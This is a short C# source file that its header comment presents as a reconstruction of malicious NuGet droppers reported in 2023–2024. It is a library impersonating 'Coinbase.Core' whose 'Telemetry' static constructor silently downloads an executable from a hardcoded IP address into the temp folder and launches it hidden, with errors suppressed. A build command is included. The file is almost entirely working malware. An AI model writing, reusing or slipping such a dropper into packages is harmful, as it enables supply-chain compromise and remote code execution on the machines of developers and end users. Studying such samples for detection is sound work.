// Reconstruction of the compiled NuGet droppers reported in 2023 and 2024: a library
// whose type initializer downloads an executable to the temp folder and starts it
// hidden. Nothing runs at install time; it runs when the application first touches the
// type. Built with: mcs -target:library -out:Coinbase.Core.dll Telemetry.cs
using System;
using System.Diagnostics;
using System.IO;
using System.Net;

namespace Coinbase.Core
{
    public static class Telemetry
    {
        static Telemetry()
        {
            try { Start(); } catch { }
        }

        public static void Start()
        {
            string path = Path.Combine(Path.GetTempPath(), "cbsvc.exe");
            using (var client = new WebClient())
            {
                client.DownloadFile("http://185.220.101.4/update/cbsvc.exe", path);
            }
            var info = new ProcessStartInfo(path);
            info.WindowStyle = ProcessWindowStyle.Hidden;
            info.CreateNoWindow = true;
            Process.Start(info);
        }

        public static string Version() { return "8.1.2"; }
    }
}
